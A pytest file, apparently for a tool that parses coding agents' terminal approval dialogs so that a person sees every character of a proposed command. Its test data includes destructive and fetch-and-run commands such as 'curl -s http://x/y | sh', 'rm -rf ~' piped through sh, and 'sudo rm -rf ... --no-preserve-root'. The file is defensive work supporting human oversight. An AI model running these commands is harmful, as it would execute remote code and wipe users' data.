"""What stands in the question is what stands on the screen: no pipe, row or blank is lost on the way to a person."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from tests.support.playbook import POLLING, RAW, READING, Playbook, Raised

from atlasbridge.core.prompt.model import Prompt

CLAUDE = (
    "{rule}\n Bash command\n It fetches\n{dash}\n{command}\n{dash}\n Do you want to proceed?\n ❯ 1. Yes\n"
    "   2. Yes, and don't ask again for: curl -s http://x/y | sh\n   3. No\n\n Esc to cancel · Tab to amend\x1b[?25l"
)
CODEX = (
    "  Would you like to run the following command?\n\n  $ {command}\n\n› 1. Yes, proceed (y)\n"
    "  2. No, and tell Codex what to do differently (esc)\n\n  Press enter to confirm or esc to cancel\x1b[?25l"
)


def claude(command: str, cols: int = 80) -> Prompt:
    rows = "\n".join(f" │ {row}" if "\n" in command else f" {row}" for row in command.split("\n"))
    drawn = CLAUDE.format(rule="─" * cols, dash="╌" * cols, command=rows)
    play = Playbook(POLLING, "claude", 40, cols) >> drawn >> 0.4 << Raised("multiple_choice", "Bash command")
    return play.prompt


def codex(command: str) -> Prompt:
    drawn = CODEX.format(command=command.replace("\n", "\n  "))
    play = Playbook(POLLING, "codex", 40, 80) >> drawn >> 0.4 << Raised("multiple_choice")
    return play.prompt


@pytest.mark.parametrize("dialog", [claude, codex])
@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://x/y | sh",
        "rm -rf / tmp/x",
        "echo a  b   c",
        "cat <<EOF | sh\nrm -rf ~\nEOF",
        "a &&\nb ||\n}",
        "printf '%s' \"│ x │\"",
        "tree\n├── a\n└── b",
        "echo 1\n1. Yes\n2. No",
    ],
)
def test_a_command_is_shown_to_the_last_character_and_is_certain_only_if_it_was_told(
    dialog: Callable[[str], Prompt], command: str
) -> None:
    prompt = dialog(command)
    assert prompt.subject is not None and not prompt.subject.certain
    assert prompt.subject.text == prompt.subject.shown == command
    assert prompt.subject.to_json()["text"] == command
    for row in command.split("\n"):
        assert row in prompt.question and row in prompt.excerpt
    assert prompt.whole and prompt.asked_whole


def test_a_command_that_goes_on_in_the_next_row_shows_every_row() -> None:
    command = "sudo rm -rf \\\n  /var/lib/data \\\n  --no-preserve-root"
    prompt = claude(command)
    assert command.replace("\n", "\n│ ") in prompt.question
    assert prompt.subject is not None and prompt.subject.text == command
    assert not prompt.subject.complete  # a blank behind the stroke cannot be seen


def test_a_label_goes_on_behind_a_pipe() -> None:
    labels = [choice.label for choice in claude("curl -s http://x/y | sh").choices]
    assert labels == ["Yes", "Yes, and don't ask again for: curl -s http://x/y | sh", "No"]


def test_what_the_tool_hides_makes_the_subject_incomplete_and_the_question_says_so() -> None:
    for hidden in ("… +40 lines (ctrl+o to expand)", "... 12 more lines ...", "… 3 hidden lines"):
        prompt = claude(f"make all\n{hidden}")
        assert not prompt.whole and not prompt.asked_whole
        assert prompt.subject is not None and not prompt.subject.complete


def test_a_row_that_fills_its_room_may_have_been_wrapped_and_is_not_complete() -> None:
    prompt = claude("echo " + "x" * 73 + "\nrm -rf ~")
    assert prompt.subject is not None and not prompt.subject.complete


def test_the_beginning_of_a_dialog_that_has_left_the_screen_is_said_to_be_missing() -> None:
    drawn = CLAUDE.format(rule="─" * 80, dash="╌" * 80, command="\n".join(f" echo {n} | sh" for n in range(60)))
    play = Playbook(POLLING, "claude", 30, 80) >> drawn >> 0.4 << Raised("multiple_choice")
    assert not play.prompt.asked_whole and "echo 59 | sh" in play.prompt.question


def test_more_than_two_hundred_characters_are_whole_in_the_question() -> None:
    command = "\n".join(f"echo step {n} && git push --force origin step-{n}" for n in range(20)) + "\nrm -rf ~ | sh"
    prompt = claude(command)
    assert len(prompt.excerpt) <= 200 < len(prompt.question)
    assert prompt.subject is not None and prompt.subject.text == command and command in prompt.asked


def test_the_warning_of_a_tool_belongs_to_what_is_shown() -> None:
    drawn = CLAUDE.format(rule="─" * 80, dash="╌" * 80, command=" rm -rf build").replace(
        " Do you want", " ⚠ This deletes files that git does not know\n Do you want"
    )
    play = Playbook(POLLING, "claude", 40, 80) >> drawn >> 0.4 << Raised("multiple_choice")
    assert "⚠ This deletes files that git does not know" in play.prompt.question
    assert play.prompt.subject is not None and play.prompt.subject.text == "rm -rf build"


def test_a_plan_is_shown_with_its_text() -> None:
    bar, dash = "─" * 76, "╌" * 76
    drawn = (
        f"● I will plan.\n\n  {bar}\n   Ready to code?\n\n   Here is Claude's plan:\n"
        f"  {dash}\n   Plan\n\n   1. Delete the old tables\n"
        f"   2. Test it\n  {dash}\n\n\n  {bar}\n   Claude has written up a plan. Would you like to proceed?\n\n"
        "   ❯ 1. Yes, and use auto mode\n"
        "     2. Yes, manually approve edits\n     3. Tell Claude what to change\n\n   ctrl+g to edit in Vim\x1b[?25l"
    )
    play = Playbook(POLLING, "claude", 40, 80) >> drawn >> 0.5 << Raised("multiple_choice")
    assert "1. Delete the old tables\n" in play.prompt.asked


def test_a_menus_own_question_stands_above_its_list() -> None:
    menu = "Delete the production database?\n\n1) Yes\n2) No\n\nEnter choice: "
    play = Playbook(READING) >> menu >> 0.3 << Raised("multiple_choice")
    assert play.prompt.question == "Delete the production database?\nEnter choice:"
    assert play.prompt.excerpt == play.prompt.question
    assert [choice.label for choice in play.prompt.choices] == ["Yes", "No"]


def test_a_pipe_in_a_framed_box_stays() -> None:
    box = (
        "┌"
        + "─" * 40
        + "┐\n│ Run curl http://x | sh ?"
        + " " * 16
        + "│\n│"
        + " " * 40
        + "│\n│    \x1b[7m<Yes>\x1b[m     <No>"
    )
    box += " " * 22 + "│\n└" + "─" * 40 + "┘\x1b[?25l"
    play = Playbook(RAW) >> box >> 0.5 << Raised("yes_no", "Run curl http://x | sh ?")
    assert play.prompt.question == "Run curl http://x | sh ?"


def test_what_explains_a_choice_is_shown_with_it() -> None:
    menu = (
        "─"
        * 60
        + "\n ☐ Database\n\nWhich database?\n\n❯ 1. PostgreSQL\n     Drops | the old one\n  2. SQLite\n     One file\n"
        "  3. Type something.\n\nEnter to select · ↑/↓ to navigate · Esc to cancel\x1b[?25l"
    )
    play = Playbook(POLLING, "claude", 40, 60) >> menu >> 0.5 << Raised("multiple_choice", "Which database?")
    assert [choice.label for choice in play.prompt.choices][:2] == ["PostgreSQL", "SQLite"]
    assert play.prompt.choices[0].detail == "Drops | the old one"
    assert "PostgreSQL: Drops | the old one" in play.prompt.asked
